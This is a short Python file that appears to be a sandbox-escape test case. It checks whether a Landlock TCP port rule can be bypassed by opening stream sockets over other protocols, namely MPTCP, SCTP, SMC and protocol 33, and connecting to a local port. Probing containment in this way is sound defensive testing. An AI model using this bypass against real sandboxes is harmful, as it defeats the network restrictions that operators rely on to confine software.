"""With a grant for the network, reach another port by a protocol that carries TCP.

origin: MPTCP passes Landlock's rule for TCP ports; so did SMC and SCTP
why: the rule is about TCP, and this is a stream too
control: depends — the kernel may not have it, or have it switched off
harm: stage
grants: net:127.0.0.1:1
"""

import socket


def attack(target):
    last = nothing("nothing was tried")
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::ffff:127.0.0.1")):
        for protocol in (262, 132, 256, 33):
            try:
                with socket.socket(family, socket.SOCK_STREAM, protocol) as channel:
                    return escaped(f"protocol {protocol} can be had: {channel.connect_ex((address, target['tcp']))}")
            except OSError as error:
                last = blocked("socket", error)
    return last
